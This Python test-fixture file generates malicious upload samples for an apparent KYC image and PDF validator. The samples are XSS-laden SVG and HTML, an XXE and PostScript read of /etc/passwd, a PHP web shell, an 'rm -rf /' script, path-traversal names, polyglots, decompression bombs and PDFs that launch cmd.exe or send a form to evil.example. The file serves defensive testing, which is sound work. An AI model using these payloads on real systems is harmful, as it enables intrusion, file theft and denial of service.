"""Files that must not be taken, made here: name of the sample, its file name, its bytes, why."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from PIL import Image

from kyc.pictures.scan import EICAR
from tests.kyc.conftest import picture

JPEG, PNG, WEBP = picture("JPEG"), picture("PNG"), picture("WEBP")
Sample = tuple[str, str, bytes, set[str]]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.class", "x" * 100)
    return out.getvalue()


def paper(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **options: object) -> bytes:
    """Make a PDF of one page, with something done to it."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, body: bytes, *, extra: bytes = b"") -> bytes:
    """Make a PNG by hand, of any claim."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_of_size(width: int, height: int) -> bytes:
    """Make a JPEG claim another size than it has."""
    data = bytearray(JPEG)
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def commented(text: bytes) -> bytes:
    """Put a comment into a JPEG."""
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + JPEG[2:]


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (400, 300), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def other(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 300)).save(out, kind)
    return out.getvalue()


def types() -> Iterator[Sample]:
    """Files of other types, under names that we take."""
    strangers = {
        "svg": SVG,
        "html": HTML,
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "php": b"<?php system($_GET['c']); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "zip": zipped(),
        "elf": b"\x7fELF" + bytes(200),
        "exe": b"MZ" + bytes(200),
        "text": b"this is a picture, honestly",
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "heic": b"\x00\x00\x00\x18ftypheic" + bytes(100),
        "spaces": b"   " + JPEG,
        "zeros": bytes(1000),
        "mvg": b"push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\n",
        "wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(30),
    } | {kind.lower(): other(kind) for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA")}
    for name, data in strangers.items():
        yield name, "photo.jpg", data, {"type"}
    yield "empty", "photo.jpg", b"", {"empty"}


def names() -> Iterator[Sample]:
    """Good pictures under names that say something else."""
    for name in (
        "photo.png", "photo.exe", "photo", "photo.jpg.svg", "photo.jpg ", "photo.jpg\x00.png",
        "../../etc/passwd", ".htaccess", "photo.pdf", "",
    ):  # fmt: skip
        yield f"jpeg named {name!r}", name, JPEG, {"extension"}
    yield "png named jpg", "photo.jpg", PNG, {"extension"}
    yield "pdf named jpg", "photo.jpg", paper(), {"extension"}


def mixed() -> Iterator[Sample]:
    """Files that are two things at once."""
    tails = {
        "zip": zipped(),
        "html": HTML,
        "php": b"<?php x(); ?>",
        "pdf": paper(),
        "elf": b"\x7fELF",
    }
    for name, tail in tails.items():
        yield f"jpeg and {name}", "a.jpg", JPEG + tail, {"mixed"}
        yield f"png and {name}", "a.png", PNG + tail, {"mixed"}
        yield f"webp and {name}", "a.webp", WEBP + tail, {"mixed"}
    yield "pdf and zip", "a.pdf", paper() + zipped(), {"mixed"}
    yield "pdf and html", "a.pdf", paper() + HTML, {"mixed"}
    yield "jpeg with a script as its comment", "a.jpg", commented(HTML), {"mixed"}
    yield "jpeg with php as its comment", "a.jpg", commented(b"<?php eval($x);"), {"mixed"}
    yield "jpeg with svg as its comment", "a.jpg", commented(SVG), {"mixed"}
    text = chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")
    yield "png with a script as its text", "a.png", PNG[:33] + text + PNG[33:], {"mixed"}
    yield "two jpegs and a zip", "a.jpg", JPEG + b"\x00" + zipped(), {"mixed"}


def bombs() -> Iterator[Sample]:
    """Files that are small and want much."""
    large = {"too_many_pixels"}
    yield "png of 50000 x 50000", "a.png", png(50_000, 50_000, b"x"), large
    yield "png of 2^31 x 1", "a.png", png(2**31 - 1, 1, b"x"), large | {"damaged", "too_small"}
    yield "png of 41 megapixels", "a.png", png(8_200, 5_001, zlib.compress(bytes(100))), large
    yield "jpeg of 65500 x 65500", "a.jpg", jpeg_of_size(65_500, 65_500), large
    text = chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(80_000_000), 9))
    bomb = PNG[:33] + text + PNG[33:]
    yield "png with a large text", "a.png", bomb, {"damaged", "too_costly"}
    profile = chunk(b"iCCP", b"a\x00\x00" + zlib.compress(bytes(400_000_000), 9))
    bomb = PNG[:33] + profile + PNG[33:]
    yield "png with a large profile", "a.png", bomb, {"damaged", "too_costly"}
    yield "more than 10 MB", "a.jpg", JPEG + bytes(10_000_001), {"too_large"}
    yield "png of one pixel", "a.png", png(1, 1, zlib.compress(b"\x00abc")), {"too_small"}
    yield "a strip", "a.png", png(30_000, 2, zlib.compress(bytes(180_002))), {"too_small"}
    yield "moving png", "a.png", moving("PNG"), {"animated"}
    yield "moving webp", "a.webp", moving("WEBP"), {"animated"}


def damaged() -> Iterator[Sample]:
    """Files that break off or lie."""
    wrong = {"damaged"}
    yield "half a jpeg", "a.jpg", JPEG[: len(JPEG) // 2], wrong
    yield "half a png", "a.png", PNG[: len(PNG) // 2], wrong
    yield "half a webp", "a.webp", WEBP[: len(WEBP) // 2], wrong
    yield "beginning of a jpeg", "a.jpg", b"\xff\xd8\xff", wrong
    yield "png without a picture", "a.png", PNG[:33] + chunk(b"IEND", b""), wrong
    yield "png with a wrong sum", "a.png", PNG[:40] + bytes([PNG[40] ^ 1]) + PNG[41:], wrong
    yield "jpeg of noise", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20, wrong
    yield "pdf of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) + b"\n%%EOF\n", wrong
    yield "pdf without an end", "a.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj", wrong
    yield "the test file of scanners", "a.jpg", commented(EICAR), {"malware"}
    yield (
        "the test file in a pdf",
        "a.pdf",
        paper().replace(b"%%EOF", EICAR + b"\n%%EOF"),
        {"malware"},
    )


def root(name: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: pdf.Root.__setitem__(name, value)


def page(name: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: pdf.pages[0].obj.__setitem__(name, value)


def active_papers() -> Iterator[Sample]:
    """PDFs that do more than to be read."""
    script = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")
    launch = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="cmd.exe")

    def annotation(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=action
        )
        return page("/Annots", pikepdf.Array([link]))

    def attach(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["evil.exe"] = b"MZ" + bytes(50)

    active = {
        "a script on opening": root("/OpenAction", script),
        "a program on opening": root("/OpenAction", launch),
        "actions of the document": root("/AA", pikepdf.Dictionary(WC=script)),
        "actions of a page": page("/AA", pikepdf.Dictionary(O=script)),
        "named scripts": root("/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())),
        "a script behind a link": annotation(script),
        "a program behind a link": annotation(launch),
        "another file behind a link": annotation(
            pikepdf.Dictionary(S=pikepdf.Name("/GoToR"), F="\\\\evil\\share")
        ),
        "a form that is sent": annotation(
            pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F="http://evil.example")
        ),
        "data that is fetched": annotation(pikepdf.Dictionary(S=pikepdf.Name("/ImportData"))),
        "a form of XML": root("/AcroForm", pikepdf.Dictionary(XFA="<xdp/>", Fields=[])),
        "a film": annotation(pikepdf.Dictionary(S=pikepdf.Name("/RichMedia"))),
        "a file inside": attach,
    }
    for name, change in active.items():
        yield f"pdf with {name}", "a.pdf", paper(change), {"active"}
    hidden = paper(
        active["a script on opening"], object_stream_mode=pikepdf.ObjectStreamMode.generate
    )
    yield "pdf with a script in a packed object", "a.pdf", hidden, {"active"}
    spelt = paper(root("/OpenAction", script)).replace(b"/JavaScript", b"/J#61vaScript")
    yield "pdf with a script spelt in numbers", "a.pdf", spelt, {"active"}


def locked_papers() -> Iterator[Sample]:
    """PDFs with passwords."""
    locks = {"with a password": {"user": "x"}, "with an owner's password": {"user": ""}}
    for name, words in locks.items():
        lock = pikepdf.Encryption(owner="owner", **words)
        yield f"pdf {name}", "a.pdf", paper(encryption=lock), {"encrypted"}


def costly_papers() -> Iterator[Sample]:
    """PDFs that want much."""

    def many(pdf: pikepdf.Pdf) -> None:
        for _ in range(200):
            pdf.add_blank_page(page_size=(595, 842))

    yield "pdf of 201 pages", "a.pdf", paper(many), {"too_many_pages"}
    wide = pikepdf.Array([0, 0, 10_000_000, 10_000_000])
    yield "pdf as large as a town", "a.pdf", paper(page("/MediaBox", wide)), {"damaged"}
    yield "pdf without pages", "a.pdf", paper(lambda pdf: pdf.pages.__delitem__(0)), {"damaged"}
    deep: object = pikepdf.Array([])
    for _ in range(60):
        deep = pikepdf.Array([deep])
    yield "pdf that is deep", "a.pdf", paper(root("/Deep", deep)), {"too_costly", "damaged"}

    def crowded(pdf: pikepdf.Pdf) -> None:
        pdf.Root["/Many"] = pikepdf.Array([pikepdf.Array([n]) for n in range(30_000)])

    yield "pdf of many parts", "a.pdf", paper(crowded), {"too_costly"}

    def draws(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].contents_add(b"0 0 500 500 re f\n" * 4_000_000)

    yield "pdf that draws for ever", "a.pdf", paper(draws, compress_streams=True), {"too_costly"}

    def pixels(pdf: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(pdf, zlib.compress(bytes(1000)))
        image["/Type"], image["/Subtype"] = pikepdf.Name("/XObject"), pikepdf.Name("/Image")
        image["/Width"] = image["/Height"] = 60_000
        image["/ColorSpace"], image["/BitsPerComponent"] = pikepdf.Name("/DeviceRGB"), 8
        image["/Filter"] = pikepdf.Name("/FlateDecode")
        pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=image))
        pdf.pages[0].contents_add(b"595 0 0 842 0 0 cm /I Do")

    yield "pdf with a picture of 60000 x 60000", "a.pdf", paper(pixels), {"too_many_pixels"}


def samples() -> list[Sample]:
    """List all of them."""
    makers = (types, names, mixed, bombs, damaged, active_papers, locked_papers, costly_papers)
    return [sample for maker in makers for sample in maker()]
